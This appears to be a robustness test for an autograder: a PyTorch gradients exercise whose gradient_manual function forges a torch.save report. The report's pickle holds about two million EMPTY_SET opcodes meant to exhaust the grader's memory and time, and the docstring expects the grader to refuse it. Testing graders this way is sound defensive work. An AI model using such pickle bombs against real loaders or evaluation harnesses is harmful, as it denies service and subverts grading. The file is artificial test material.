"""gradient_manual(x) forges a report whose data.pkl is 2 MB of one-byte EMPTY_SET opcodes in a list.

The zip is well-formed, stored and under the 64 MB limit, so it passes the
zip checks; torch.load's weights-only unpickler (pure Python) then runs one
opcode at a time and builds two million empty sets (about 220 bytes of grader
memory per byte of report, a second or more per million opcodes) before the
node budget sees the list. At the 64 MB limit that is about 14 GB and a
minute per check. Expected: the grader refuses such a report cheaply (a small cap on
data.pkl, or opcodes counted), its memory and time stay bounded, the
gradient_manual checks fail, every other check keeps its points.
"""

import io
import os
import zipfile

import torch

OPCODES = 2 << 20


def forward(x):
    y = 3 * x + 2
    y.retain_grad()
    z = 2 * y**2
    out = z.mean()
    return y, z, out


def gradients(x):
    y, z, out = forward(x)
    out.backward()
    return x.grad, y.grad


def gradient_manual(x):
    buffer = io.BytesIO()
    torch.save({"status": "ok", "observations": []}, buffer)
    original = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    # {"status": "ok", "observations": [set(), set(), ...]}, the list filled 1,000 sets (EMPTY_SET, 0x8f) at a time
    body = b"\x80\x02}(X\x06\x00\x00\x00statusX\x02\x00\x00\x00okX\x0c\x00\x00\x00observations]"
    body += (b"(" + b"\x8f" * 1000 + b"e") * (OPCODES // 1000) + b"u."
    forged = io.BytesIO()
    with zipfile.ZipFile(forged, "w", zipfile.ZIP_STORED) as archive:
        for name in original.namelist():
            archive.writestr(name, body if name.endswith("data.pkl") else original.read(name))
    os.write(3, forged.getvalue())
    os._exit(0)
